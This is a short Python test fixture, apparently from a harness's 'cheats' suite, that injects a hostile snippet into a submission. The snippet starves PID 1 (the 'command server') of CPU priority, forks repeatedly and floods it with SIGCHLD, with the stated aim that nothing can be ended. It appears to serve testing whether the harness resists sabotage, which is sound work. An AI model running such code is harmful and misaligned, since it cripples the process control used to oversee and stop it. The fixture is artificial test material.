"""Gives the command server the lowest priority and floods it with signals and orphans, so that nothing can be ended."""

from __future__ import annotations

from tests.cheats.snippets import CORE, WRONG

FAMILY = "infrastructure"
CHANGES: dict[str, str | None] = {
    CORE: r"""
import os
import signal

ATTACKS = (
    lambda: os.sched_setaffinity(1, {0}),
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.setpriority(os.PRIO_PGRP, 1, 19),
    lambda: os.setpriority(os.PRIO_USER, 0, 19),
)
for attack in ATTACKS:
    try:
        attack()
    except OSError:
        pass
for _ in range(4):
    os.fork()
server = os.open("/proc/1", os.O_RDONLY)
while True:
    try:
        os.kill(1, signal.SIGCHLD)
    except OSError:
        pass
    try:
        signal.pidfd_send_signal(server, signal.SIGCHLD)
        if os.fork() == 0:
            os.fork()
            os._exit(0)
    except OSError:
        pass
"""
    + WRONG,
}
TIMEOUT_SEC = 5
